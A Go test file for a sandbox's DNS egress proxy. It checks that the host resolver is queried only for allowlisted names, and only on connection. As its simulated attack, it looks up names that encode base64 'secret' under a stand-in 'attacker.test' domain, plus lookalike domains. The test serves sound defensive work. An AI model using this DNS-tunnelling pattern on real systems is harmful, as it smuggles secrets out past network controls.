package names

import (
	"context"
	"fmt"
	"io"
	"net"
	"net/netip"
	"slices"
	"sync"
	"testing"

	"golang.org/x/net/dns/dnsmessage"

	"brainbox/proxy"
	"brainbox/proxy/allow"
)

// asked is a log of the host's resolver, which knows one address.
type asked struct {
	mu    sync.Mutex
	names []string
}

func (a *asked) resolve(_ context.Context, name string) ([]netip.Addr, error) {
	a.mu.Lock()
	defer a.mu.Unlock()
	a.names = append(a.names, name)
	return []netip.Addr{netip.MustParseAddr("93.184.215.14")}, nil // any public one: it is not dialled
}

func (a *asked) log() []string {
	a.mu.Lock()
	defer a.mu.Unlock()
	return slices.Clone(a.names)
}

// esc/NW-07, esc/NW-08, esc/PX-07: with the egress behind it, the host's resolver is asked for a
// name when a connection to it is made, and for no other, whatever the program looks up.
func TestTheHostsResolverIsAskedForListedNamesAlone(t *testing.T) {
	rules, err := allow.New(listed)
	if err != nil {
		t.Fatal(err)
	}
	var log asked
	egress, err := proxy.New(proxy.Config{
		Rules: rules, Resolve: log.resolve,
		Dial: func(context.Context, netip.AddrPort) (net.Conn, error) {
			near, far := net.Pipe()
			go func() {
				_, _ = io.Copy(far, far)
				_ = far.Close()
			}()
			return near, nil
		},
	})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		if err := egress.Close(); err != nil {
			t.Error(err)
		}
	})
	w, udp, tcp, _ := served(t, func(c *Config) { c.Carry = egress.Carry })
	for i := range 20 {
		for network, address := range map[string]string{"udp": udp, "tcp": tcp} {
			name := fmt.Sprintf("c2VjcmV0%d.attacker.test.", i)
			if got, err := resolver(network, address).LookupHost(t.Context(), name); err == nil {
				t.Errorf("%s is %v", name, got)
			}
		}
	}
	for _, name := range []string{"evilok.test.", "ok.test.evil.", "c2VjcmV0.ok.test.", "wild.test."} {
		w.ask(name, dnsmessage.TypeA)
	}
	to := w.addr("db.test.", dnsmessage.TypeA) // listed: looked up, and not yet connected to
	if got := log.log(); len(got) != 0 {
		t.Errorf("lookups alone led to questions of the host: %v", got)
	}
	conn := w.sockets.dial(t, netip.AddrPortFrom(to, 5432))
	send(t, conn, []byte("x"))
	if _, err := io.ReadFull(conn, make([]byte, 1)); err != nil {
		t.Errorf("a listed name: %v", err)
	}
	conn.Close()
	if got := log.log(); !slices.Equal(got, []string{"db.test"}) {
		t.Errorf("the host was asked for %v, want db.test alone", got)
	}
}
